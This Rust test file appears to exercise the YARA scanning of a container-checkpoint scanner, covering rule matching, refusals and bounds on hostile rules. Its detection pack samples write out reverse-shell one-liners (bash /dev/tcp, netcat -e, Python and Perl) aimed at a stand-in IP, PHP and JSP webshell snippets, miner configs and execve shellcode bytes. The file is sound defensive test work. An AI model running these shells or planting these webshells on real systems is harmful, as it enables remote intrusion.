//! YARA over whole scans: where rules hold, what they are told not to hold on, and that hostile ones
//! are bounded.
#![expect(clippy::unwrap_used, reason = "a test that cannot run fails")]

use std::fmt::Write as _;
use std::path::PathBuf;
use std::sync::Arc;

use cryoscan::limits::Limits;
use cryoscan::scan::Settings;
use cryoscan::yara::Rules;
use cryoscan_tests::builder::{Archive, Checkpoint, Kind, Mapping, Process, Producer, Segment};
use cryoscan_tests::fixtures;
use cryoscan_tests::scanned::{Files, Part, Scanned, revealing, scan, scan_bytes, scan_pipe};
use serde_json::Value;

const MIB: usize = 1 << 20;
const HEAP: u64 = 0x7f00_0000_0000;

fn loaded(rules: &str) -> Rules {
    let files = Files::new();
    let path = files.add("rules.yar", rules.as_bytes());
    Rules::load(&[path], false, &Limits::default()).unwrap()
}

fn builtin() -> Arc<Rules> {
    Arc::new(Rules::load(&[PathBuf::from("builtin")], false, &Limits::default()).unwrap())
}

fn with(rules: &Arc<Rules>) -> Settings {
    Settings { yara: Some(Arc::clone(rules)), ..revealing() }
}

fn scanned(archive: &Archive, rules: &str) -> Scanned {
    let scanned = scan_bytes(&archive.tar(), &with(&Arc::new(loaded(rules))));
    assert_eq!(scanned.whole().faults(), Vec::<String>::new());
    scanned
}

fn rule<'a>(part: &Part<'a>, id: &str) -> Option<&'a Value> {
    part.of("finding").find(|finding| finding["rule"]["id"] == id)
}

/// The ids of the YARA rules that hold.
fn held(scanned: &Scanned) -> Vec<String> {
    let part = scanned.whole();
    let yara = part.of("finding").filter(|finding| finding["class"] == "yara");
    let mut ids: Vec<String> =
        yara.map(|finding| finding["rule"]["id"].as_str().unwrap().to_owned()).collect();
    ids.sort();
    ids
}

fn one(process: Process) -> Archive {
    Archive::of(Producer::Podman, &Checkpoint::new().process(process))
}

/// A process whose memory holds a text.
fn memory_with(text: &[u8]) -> Archive {
    let length = text.len().next_multiple_of(4096) + 8192;
    one(Process::new(1, "app").map(Mapping::zero(HEAP, length).put(HEAP + 100, text)))
}

fn notes<'a>(scanned: &'a Scanned, code: &str) -> Vec<&'a Value> {
    let is = |record: &&Value| record["type"] == "diagnostic" && record["code"] == code;
    scanned.records.iter().filter(is).collect()
}

#[test]
fn a_string_that_crosses_windows_and_blocks_is_found_at_its_address() {
    // Across the first border of a block and of a window.
    let at = HEAP + MIB as u64 - 7;
    let heap = Mapping::noise(HEAP, 3 * MIB, 1).put(at, b"across-two-blocks");
    let found = scanned(
        &one(Process::new(7, "app").map(heap)),
        r#"rule crossing { meta: severity = "high" strings: $a = "across-two-blocks" condition: $a }"#,
    );
    let part = found.whole();
    let finding = rule(&part, "yara:rules.crossing").unwrap();
    assert_eq!((&finding["class"], &finding["severity"]), (&"yara".into(), &"high".into()));
    assert_eq!((&finding["count"], &finding["processes"]), (&1.into(), &1.into()));
    let places = finding["places"].as_array().unwrap();
    assert_eq!(places.len(), 1, "{places:?}");
    assert_eq!(places[0]["address"], format!("{at:#x}"));
    assert_eq!((&places[0]["pid"], &places[0]["length"]), (&7.into(), &17.into()));
    assert_eq!(finding["attributes"]["yara.strings"], "$a 1");
}

#[test]
fn no_bytes_are_shown_unless_asked_for() {
    let archive = memory_with(b"a-text-nobody-should-see");
    let rules = Arc::new(loaded(r#"rule seen { strings: $a = /a-text-[a-z-]+/ condition: $a }"#));
    let shown = scan_bytes(&archive.tar(), &with(&rules));
    let matched = &rule(&shown.whole(), "yara:rules.seen").unwrap()["match"];
    assert_eq!(matched["value"], "a-text-nobody-should-see");
    let hidden = Settings { show_secrets: false, ..with(&rules) };
    let hidden = scan_bytes(&archive.tar(), &hidden);
    let matched = &rule(&hidden.whole(), "yara:rules.seen").unwrap()["match"];
    assert_eq!((&matched["preview"], &matched["length"]), (&"…".into(), &24.into()));
    assert!(!hidden.lines.join("\n").contains("nobody-should"));
}

#[test]
fn a_condition_is_about_one_holder_and_counts_holders() {
    let half = |pid, text: &[u8]| {
        Process::new(pid, "app").map(Mapping::zero(HEAP, 8192).put(HEAP + 4000, text))
    };
    let far = Mapping::zero(HEAP, 8192).put(HEAP, b"first-half");
    let there = Mapping::zero(HEAP + 0x10_0000, 8192).put(HEAP + 0x10_0000, b"second-half");
    let checkpoint = Checkpoint::new()
        .process(half(1, b"first-half"))
        .process(half(2, b"second-half"))
        .process(Process::new(3, "both").map(far).map(there));
    let text = r#"
        rule both { strings: $a = "first-half" $b = "second-half" condition: all of them }
        rule either { strings: $a = "first-half" $b = "second-half" condition: any of them }
        rule anything { condition: true }
        private rule hidden { strings: $a = "first-half" condition: $a }
        rule visible { condition: hidden }"#;
    let found = scanned(&Archive::of(Producer::Podman, &checkpoint), text);
    let part = found.whole();
    let both = rule(&part, "yara:rules.both").unwrap();
    assert_eq!((&both["count"], both["places"].as_array().unwrap().len()), (&1.into(), 2));
    assert!(both["places"].as_array().unwrap().iter().all(|place| place["pid"] == 3));
    let either = rule(&part, "yara:rules.either").unwrap();
    assert_eq!((&either["count"], &either["processes"]), (&3.into(), &3.into()));
    assert!(rule(&part, "yara:rules.hidden").is_none());
    assert_eq!(rule(&part, "yara:rules.visible").unwrap()["processes"], 2);
    // Without a string the holder's first byte stands for it.
    let anything = rule(&part, "yara:rules.anything").unwrap();
    assert!(anything["match"].is_null());
    assert_eq!(anything["processes"], 3);
    assert!(anything["files"].as_u64().unwrap() > 0, "metadata are files too");
}

#[test]
fn a_shared_segment_is_one_holder_with_a_place_for_each_process() {
    let content = Mapping::zero(0, 8192).put(0x123, b"in-shared-memory");
    let mapped = |pid| Process::new(pid, "app").map_shared(HEAP, 9, 0, 8192);
    let checkpoint = Checkpoint::new()
        .segment(Segment::memfd(9, "cache", content))
        .process(mapped(1))
        .process(mapped(2));
    let text = r#"rule shared { strings: $a = "in-shared-memory" condition: $a }"#;
    let found = scanned(&Archive::of(Producer::Podman, &checkpoint), text);
    let part = found.whole();
    let finding = rule(&part, "yara:rules.shared").unwrap();
    assert_eq!((&finding["count"], &finding["processes"]), (&1.into(), &2.into()));
    assert_eq!(finding["places"].as_array().unwrap().len(), 2);
}

const FILES_ONLY: &str = r##"
    import "elf"
    import "hash"
    import "math"
    import "string"
    import "time"
    import "console"
    rule script { strings: $a = "#!" condition: $a at 0 and filesize < 1KB }
    rule program { condition: elf.type == elf.ET_EXEC or uint32(0) == 0x464c457f }
    rule digest { condition: hash.md5(0, filesize) == md5 and md5 != "" }
    rule even { condition: math.entropy(0, filesize) < 8.0 and string.length(filename) == 8 }
    rule named {
        condition: filename == "start.sh" and filepath == "/srv/start.sh" and extension == ".sh"
            and filetype == "SCRIPT" and owner == ""
    }
    rule anywhere { strings: $a = "needle-in-both" condition: $a }
    rule in_memory { meta: scan_context = "memory" strings: $a = "needle-in-both" condition: $a }
    rule in_files { meta: scan_context = "file" strings: $a = "needle-in-both" condition: $a }
    rule not_a_program { strings: $a = "needle-in-both" condition: $a and not program }
    rule clock { strings: $a = "needle-in-both" condition: $a and time.now() > 0 and console.log("x") }
"##;

#[test]
fn files_have_modules_and_variables_and_memory_does_not() {
    let process =
        Process::new(1, "app").map(Mapping::zero(HEAP, 8192).put(HEAP, b"needle-in-both #!"));
    let script = b"#!/bin/sh\necho needle-in-both\n";
    let archive = one(process).rootfs_diff(&[("srv/start.sh", script.as_slice())], false);
    let found = scanned(&archive, FILES_ONLY);
    let part = found.whole();
    for (name, processes, files) in [
        ("script", 0, 1),
        ("anywhere", 1, 1),
        ("in_memory", 1, 0),
        ("in_files", 0, 1),
        ("not_a_program", 1, 1),
        ("clock", 1, 1),
    ] {
        let finding = rule(&part, &format!("yara:rules.{name}"));
        let finding = finding.unwrap_or_else(|| panic!("{name} does not hold"));
        let counts = (finding["processes"].as_u64(), finding["files"].as_u64());
        assert_eq!(counts, (Some(processes), Some(files)), "{name}");
    }
    assert!(rule(&part, "yara:rules.program").is_none());
    assert_eq!(rule(&part, "yara:rules.named").unwrap()["files"], 1);
    assert!(rule(&part, "yara:rules.digest").unwrap()["files"].as_u64().unwrap() > 0);
    let place = &rule(&part, "yara:rules.in_files").unwrap()["places"][0];
    assert_eq!(
        (&place["line"], &place["column"], &place["offset"]),
        (&2.into(), &6.into(), &15.into())
    );
    // The rules that do not run on memory are named, with the reason.
    let note = notes(&found, "yara-files-only");
    let message = note[0]["message"].as_str().unwrap();
    for part in ["script (offset 0)", "program (", "digest (md5)", "named (filename)"] {
        assert!(message.contains(part), "{part}: {message}");
    }
    assert!(!message.contains("anywhere") && !message.contains("not_a_program"), "{message}");
    assert!(found.outcome.complete);
}

#[test]
fn what_does_not_compile_is_named_and_the_rest_runs() {
    let files = Files::new();
    let bad = b"rule good { strings: $a = \"needle\" condition: $a }\n\
        rule unknown { condition: no_such_thing }\n\
        rule late { condition: good and unknown }\n\
        rule good { condition: true }\n\
        import \"pe\"\n\
        rule windows { condition: pe.is_pe }\n\
        include \"other.yar\"\n\
        rule again { strings: $a = /caf\xe9/ condition: $a }\n";
    let path = files.add("bad.yar", bad);
    let rules = Rules::load(std::slice::from_ref(&path), false, &Limits::default()).unwrap();
    let ids: Vec<&str> = rules.infos().iter().map(|info| info.id.as_str()).collect();
    assert_eq!(ids, ["yara:bad.good", "yara:bad.again"]);
    let refused: Vec<String> =
        rules.notes().iter().map(|note| format!("{} {}", note.code.name(), note.message)).collect();
    for part in [
        "line 2, column 27: rule unknown",
        "rule late was left out",
        "line 4, column 6: rule good",
        "needs the module pe",
        "line 7, column 1",
    ] {
        assert!(refused.iter().any(|note| note.contains(part)), "{part}: {refused:#?}");
    }
    assert!(refused.iter().all(|note| note.starts_with("yara-refused ")), "{refused:#?}");
    // The report says so, and is no less complete for it.
    let found = scan_bytes(&memory_with(b"needle").tar(), &with(&Arc::new(rules)));
    assert_eq!(held(&found), ["yara:bad.good"]);
    assert!(!notes(&found, "yara-refused").is_empty() && found.outcome.complete);
    assert_eq!(found.records[0]["rules"]["hash"].as_str().unwrap().len(), 7 + 64);
    // With includes the other file belongs to the same namespace.
    files.add("other.yar", b"rule no_such_thing { condition: true }");
    let rules = Rules::load(&[path], true, &Limits::default()).unwrap();
    let ids: Vec<&str> = rules.infos().iter().map(|info| info.id.as_str()).collect();
    assert!(ids.contains(&"yara:bad.unknown") && ids.contains(&"yara:bad.late"), "{ids:?}");
}

#[test]
fn what_cannot_be_used_at_all_is_an_error() {
    let files = Files::new();
    let load = |path| Rules::load(&[path], false, &Limits::default()).map(drop);
    let message = |path: PathBuf| load(path).unwrap_err().to_string();
    let text = message(files.add("one.yar", b"rule r { condition: nothing }"));
    assert!(text.contains("no YARA rule") && text.contains("line 1, column 21"), "{text}");
    assert!(message(files.add("c.yarac", b"YARA-X\0\0")).contains("compiled"));
    assert!(message(files.add("x", b"").with_file_name("none.yar")).contains("none.yar"));
    let deep = format!("rule r {{ condition: {}true", "not ".repeat(100_000));
    let text = message(files.add("deep.yar", deep.as_bytes()));
    assert!(text.contains("nested deeper"), "{text}");
}

#[test]
fn a_folder_is_a_pack_with_a_namespace_for_each_file() {
    let files = Files::new();
    let text = b"rule same { strings: $a = \"needle\" condition: $a }";
    files.add("pack/linux/one.yar", text);
    files.add("pack/two.YARA", text);
    let readme = files.add("pack/readme.txt", b"no rules");
    let rules = Rules::load(&[readme.with_file_name("")], false, &Limits::default()).unwrap();
    let ids: Vec<&str> = rules.infos().iter().map(|info| info.id.as_str()).collect();
    assert_eq!(ids, ["yara:linux.one.same", "yara:two.same"]);
}

#[test]
fn hostile_rules_are_bounded_and_named() {
    let many = vec![b'A'; 2 * MIB];
    let archive = memory_with(&many);
    let text = r#"
        rule one_byte { strings: $a = "A" condition: #a > 500 }
        rule too_many { strings: $a = "AA" condition: #a > 5000 }
        rule far { strings: $a = { 41 41 [-] 42 } condition: $a }
        rule huge { strings: $a = /(A{1,30000}){1,10000}/ condition: $a }
        rule plain { strings: $a = "AAAAAAAAAAAAAAAA" condition: $a }"#;
    let rules = Arc::new(loaded(text));
    let found = scan_bytes(&archive.tar(), &with(&rules));
    assert_eq!(found.whole().faults(), Vec::<String>::new());
    let refused = notes(&found, "yara-refused");
    assert!(refused.iter().any(|note| note["message"].as_str().unwrap().contains("rule huge")));
    let ids = held(&found);
    assert!(ids.contains(&"yara:rules.one_byte".to_owned()), "{ids:?}");
    assert!(ids.contains(&"yara:rules.plain".to_owned()), "{ids:?}");
    assert!(!ids.contains(&"yara:rules.too_many".to_owned()), "{ids:?}");
    let counted = notes(&found, "yara-matches");
    assert!(counted.iter().any(|note| note["message"].as_str().unwrap().contains("too_many")));
    assert!(!notes(&found, "yara-slow").is_empty());
    let only = notes(&found, "yara-files-only")[0]["message"].as_str().unwrap();
    assert!(only.contains("far (gap in $a)"), "{only}");
    // A place is shown for a part of the hits only, and the rest is counted.
    let part = found.whole();
    let places = rule(&part, "yara:rules.plain").unwrap();
    assert_eq!(places["places"].as_array().unwrap().len(), 32);
    assert_eq!(places["places_omitted"], 1000 - 32);
}

#[test]
fn a_holder_that_takes_too_long_is_named() {
    // One endless loop, and one pattern that is slow where its letters stand: they do not, so that whatever the
    // machine the time goes to the loop; there is enough of it for a machine with other work to come to the loop.
    let endless = r#"
        rule endless { condition: for all i in (0..9223372036854775806) : (i >= 0) }
        rule steps { strings: $a = /(A?){50}A{50}B/ condition: $a }"#;
    let files = Files::new();
    let path = files.add("endless.yar", endless.as_bytes());
    let limits = Limits { yara_seconds: 10, yara_timeouts: 1, ..Limits::default() };
    let rules = Arc::new(Rules::load(&[path], false, &limits).unwrap());
    let settings = Settings { limits, ..with(&rules) };
    let found = scan_bytes(&memory_with(&vec![b'.'; MIB]).tar(), &settings);
    let told = notes(&found, "yara-timeout");
    let named = |note: &&Value| note["message"].as_str().unwrap().contains("for endless.");
    assert!(told.iter().any(named), "{told:?}");
    assert!(!notes(&found, "yara-slow").is_empty());
    assert!(!found.outcome.complete);
    assert_eq!(held(&found), Vec::<String>::new());
}

/// A set of many rules that uses every kind of string, every module and every variable.
fn many_rules() -> String {
    let mut text = String::from(
        "import \"elf\" import \"hash\" import \"math\" import \"string\" import \"time\" import \"console\"\n",
    );
    for number in 0..400 {
        let strings = format!(
            "$a = \"marker-{number:04}\" ascii wide $b = {{ 6d 61 72 6b 65 72 2d ?? {:02x} }} \
             $c = /marker-{number:04}[a-z]{{2,9}}/ nocase $d = \"marker-{number:04}\" base64 \
             $e = \"marker-{number:04}\" xor(1-9)",
            number % 251
        );
        let condition = match number % 10 {
            0 => "any of them",
            1 => "$a or $b or $c or #d > 0 or @e[1] > 70000",
            2 => "filesize < 2MB and any of them",
            3 => "elf.type == elf.ET_DYN and any of them",
            4 => "hash.md5(0, 10) != \"\" and any of them",
            5 => "math.entropy(0, filesize) > 1.0 and any of them",
            6 => "string.length(filename) > 0 and any of them",
            7 => "time.now() > 0 and console.log(\"x\") and any of them",
            8 => "uint16(0) != 0 and filepath contains \"/\" and any of them",
            _ => "extension != \".exe\" and filetype != \"EXE\" and owner == \"\" and any of them",
        };
        writeln!(
            text,
            "rule many_{number} : tag {{ meta: author = \"x\" score = {} strings: {strings} \
             condition: {condition} }}",
            number % 101
        )
        .unwrap();
    }
    text
}

#[test]
fn several_hundred_rules_give_the_same_report_however_the_work_is_cut() {
    let rules = Arc::new(loaded(&many_rules()));
    assert_eq!(rules.infos().len(), 400, "{:#?}", rules.notes().first());
    assert!(rules.notes().iter().all(|note| note.code.name() == "yara-files-only"));
    let mut heap = Mapping::noise(HEAP, 3 * MIB, 5).kind(Kind::Heap);
    for number in 0..40u64 {
        let text = format!("marker-{:04}abc", number * 10);
        heap = heap.put(HEAP + number * 77_777, text.as_bytes());
    }
    let near = Mapping::noise(HEAP + 4 * MIB as u64, 256 << 10, 6);
    let near = near.put_utf16(HEAP + 4 * MIB as u64 + 65_530, "marker-0001");
    let second = Mapping::noise(HEAP, MIB, 7).put(HEAP + 5, b"marker-0399 marker-0009");
    let checkpoint = Checkpoint::new()
        .process(Process::new(1, "one").map(heap).map(near))
        .process(Process::new(2, "two").map(second));
    let mut log = vec![b'.'; MIB + 99];
    log.extend_from_slice(b"\nmarker-0012 marker-0013 marker-0014\n");
    let archive = Archive::of(Producer::Podman, &checkpoint)
        .rootfs_diff(&[("var/log/app.log", log.as_slice())], false);
    let files = Files::new();
    let path = files.add("many.tar", &archive.tar());
    let settings = |threads, window| Settings { threads, window, ..with(&rules) };
    let whole = scan(&[&path], &settings(1, 4 << 20));
    assert_eq!(whole.whole().faults(), Vec::<String>::new());
    let ids = held(&whole);
    assert!(ids.len() >= 42, "{ids:?}");
    for (threads, window) in [(2, 64 << 10), (8, 128 << 10), (8, 4 << 20)] {
        let cut = scan(&[&path], &settings(threads, window));
        assert!(cut.lines == whole.lines, "{threads} threads, windows of {window} bytes");
    }
    let findings = |scanned: &Scanned| {
        let findings = scanned.lines.iter().filter(|line| line.contains(r#""class":"yara""#));
        findings.cloned().collect::<Vec<_>>()
    };
    let piped = scan_pipe(&archive.zstd(), &settings(2, 128 << 10));
    assert!(findings(&piped) == findings(&whole), "a pipe of zstd");
    let packed = scan(&[&files.add("many.tar.gz", &archive.gzip())], &settings(8, 64 << 10));
    assert!(findings(&packed) == findings(&whole), "gzip");
}

#[test]
fn a_file_that_is_too_long_is_scanned_in_blocks_and_named() {
    let mut content = vec![b' '; 3 * MIB];
    content[2 * MIB..2 * MIB + 6].copy_from_slice(b"needle");
    let archive = memory_with(b"x").rootfs_diff(&[("big.bin", content.as_slice())], false);
    let limits = Limits { yara_file_bytes: MIB as u64, ..Limits::default() };
    let rules = Arc::new(loaded(
        r#"rule text { strings: $a = "needle" condition: $a }
           rule sized { strings: $a = "needle" condition: $a and filesize > 0 }"#,
    ));
    let settings = Settings { limits, ..with(&rules) };
    let found = scan_bytes(&archive.tar(), &settings);
    assert_eq!(held(&found), ["yara:rules.text"]);
    let place = &rule(&found.whole(), "yara:rules.text").unwrap()["places"][0];
    assert_eq!((&place["offset"], place["line"].is_null()), (&(2 * MIB).into(), true));
    let member = notes(&found, "yara-large-file")[0]["member"].as_str().unwrap();
    assert!(member.ends_with("!big.bin"), "{member}");
    let streamed = scan_bytes(&archive.gzip(), &settings);
    assert_eq!(held(&streamed), ["yara:rules.text"]);
}

type Samples = Vec<Vec<u8>>;

/// For each rule of the pack what it finds, and what is like it and harmless. They are put together
/// here, so that no scanner of malware minds this file.
fn pack_samples() -> Vec<(&'static str, Samples, Samples)> {
    let text = |parts: &[&str]| parts.concat().into_bytes();
    let mut header = vec![0u8; 64];
    for (at, bytes) in [
        (0usize, [0x7f, b'E', b'L', b'F', 2, 1, 1].as_slice()),
        (16, &[2, 0, 0x3e, 0, 1]),
        (24, &[0x78, 0, 0x40]),
        (32, &[0x40]),
        (52, &[0x40, 0, 0x38, 0, 1]),
    ] {
        header[at..at + bytes.len()].copy_from_slice(bytes);
    }
    let mut linked = header.clone();
    linked[40..44].copy_from_slice(&[0x10, 0x20, 0, 0]);
    linked[58..64].copy_from_slice(&[0x40, 0, 30, 0, 29, 0]);
    let mut upx = linked.clone();
    upx.extend_from_slice(&[0; 100]);
    upx.extend_from_slice(&text(&["UP", "X!"]));
    upx.extend_from_slice(&[0; 32]);
    let mut shellcode = vec![0x48, 0x31, 0xd2, 0x48, 0xbb];
    shellcode.extend_from_slice(&text(&["/bi", "n//sh"]));
    shellcode.extend_from_slice(&[0x53, 0x48, 0x89, 0xe7, 0x50, 0x57, 0xb0, 0x3b, 0x0f, 0x05]);
    let php = |call: &str, from: &str| text(&["<?php ", call, "($", from, "['c']); ?>"]);
    vec![
        (
            "miner_xmrig_configuration",
            vec![text(&[
                "{\"donate-",
                "level\": 1, \"rig-",
                "id\": null, \"random",
                "x\": {}, \"nice",
                "hash\": false}",
            ])],
            vec![b"{\"randomx\": {}, \"nicehash\": false, \"rig-id\": 3}".to_vec()],
        ),
        (
            "miner_stratum_session",
            vec![
                text(&[
                    "stra",
                    "tum+tcp://pool.example.org:3333 {\"method\": \"mining.",
                    "subscribe\"}",
                ]),
                text(&[
                    "{\"job_",
                    "id\":\"abcdef12\",\"seed_",
                    "hash\":\"",
                    &"0f".repeat(32),
                    "\"}",
                ]),
            ],
            vec![
                b"{\"method\":\"login\",\"params\":{\"user\":\"x\"}} {\"job_id\":\"1234567\"}"
                    .to_vec(),
            ],
        ),
        (
            "miner_command_line",
            vec![text(&[
                "x\0-o\0pool.example.org:3333\0-u\0",
                &"4A".repeat(40),
                "\0--co",
                "in\0monero\0",
            ])],
            vec![b"curl\0-o\0file.example.org:8080\0-u\0user:pass\0".to_vec()],
        ),
        (
            "webshell_php_request_runs_code",
            vec![php(&["ev", "al"].concat(), "_POST"), php(&["sys", "tem "].concat(), "_REQUEST")],
            vec![php("htmlspecialchars", "_GET"), b"system($command); $_GET['page'];".to_vec()],
        ),
        (
            "webshell_php_packed_code",
            vec![text(&["ev", "al(gzin", "flate(base64", "_decode('x')))"])],
            vec![b"echo base64_decode(gzinflate($x)); eval($y);".to_vec()],
        ),
        (
            "webshell_jsp_request_runs_command",
            vec![text(&["Runtime.get", "Runtime().exec(req", "uest.getParameter(\"c\"))"])],
            vec![
                b"Runtime.getRuntime().availableProcessors(); request.getParameter(\"c\")".to_vec(),
            ],
        ),
        (
            "reverse_shell_bash_device",
            vec![
                text(&["bash -i >& /dev", "/tcp/192.0.2.7/4444 0>&1"]),
                text(&["exec 196<>/dev", "/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196"]),
                text(&[
                    "exec 5<>/dev",
                    "/tcp/192.0.2.7/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
                ]),
            ],
            vec![
                b"(echo > /dev/tcp/localhost/8080) && echo open; bash -i".to_vec(),
                b"exec 3<>/dev/tcp/localhost/9000 && echo -e 'GET /health HTTP/1.1' >&3 \
                  && cat <&3 | grep -q 200"
                    .to_vec(),
                b"exec 3<>/dev/tcp/localhost/9000; while read line; do echo $line; done <&3"
                    .to_vec(),
            ],
        ),
        (
            "reverse_shell_netcat",
            vec![
                text(&["nc 192.0.2.7 4444 -e ", "/bin/sh"]),
                text(&["nc\0-e\0", "/bin/sh\0", "192.0.2.7\0", "4444\0"]),
                text(&[
                    "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 ",
                    "| nc 192.0.2.7 4444 > /tmp/f",
                ]),
            ],
            vec![b"nc -z database 5432 && echo up; sync -e /bin/shutdown".to_vec()],
        ),
        (
            "reverse_shell_script",
            vec![
                text(&["os.du", "p2(s.fileno(),0);subprocess.call([\"/bin", "/sh\",\"-i\"])"]),
                text(&["use Soc", "ket;$i=1;socket(S,1);open(STD", "IN,\">&S\");"]),
            ],
            vec![b"os.dup2(log.fileno(), 1)\nsubprocess.run([\"ls\"])".to_vec()],
        ),
        ("implant_elf_without_sections", vec![header], vec![linked.clone()]),
        ("implant_packed_elf", vec![upx], vec![linked, text(&["UP", "X!"])]),
        (
            "implant_shellcode_runs_shell",
            vec![shellcode],
            vec![b"/bin//sh H\xbb/bin/sh\0 and nothing that calls".to_vec()],
        ),
    ]
}

#[test]
fn every_rule_of_the_pack_finds_its_samples_and_not_what_is_harmless() {
    let rules = builtin();
    assert!(rules.notes().is_empty(), "{:#?}", rules.notes());
    let samples = pack_samples();
    let mut named: Vec<String> =
        samples.iter().map(|(name, ..)| format!("yara:cryoscan.{name}")).collect();
    named.sort();
    let mut ids: Vec<String> = rules.infos().iter().map(|info| info.id.clone()).collect();
    ids.sort();
    assert_eq!(ids, named, "each rule of the pack has a sample here");
    assert!(rules.infos().iter().all(|info| info.memory && info.files && !info.attack.is_empty()));
    for (name, hits, harmless) in samples {
        let id = format!("yara:cryoscan.{name}");
        for (index, sample) in hits.iter().enumerate() {
            let in_memory = scan_bytes(&memory_with(sample).tar(), &with(&rules));
            assert!(held(&in_memory).contains(&id), "{name}: sample {index} in memory");
            let file = memory_with(b"x").rootfs_diff(&[("srv/file", sample.as_slice())], false);
            let in_file = scan_bytes(&file.tar(), &with(&rules));
            assert!(held(&in_file).contains(&id), "{name}: sample {index} in a file");
        }
        for (index, sample) in harmless.iter().enumerate() {
            let found = scan_bytes(&memory_with(sample).tar(), &with(&rules));
            assert_eq!(held(&found), Vec::<String>::new(), "{name}: harmless {index}");
        }
    }
}

#[test]
fn the_pack_is_silent_on_real_checkpoints_but_for_what_was_put_there() {
    let rules = builtin();
    for fixture in fixtures::load(&fixtures::folder()).unwrap() {
        let settings = Settings { threads: 2, ..with(&rules) };
        let found = scan(&[&fixture.archive], &settings);
        let name = &fixture.truth.name;
        // The workload `tree` holds a shell that talks to a socket.
        let expected: &[&str] = match name.as_str() {
            "tree" => &["yara:cryoscan.reverse_shell_bash_device"],
            _ => &[],
        };
        assert_eq!(held(&found), expected, "{name}");
    }
}
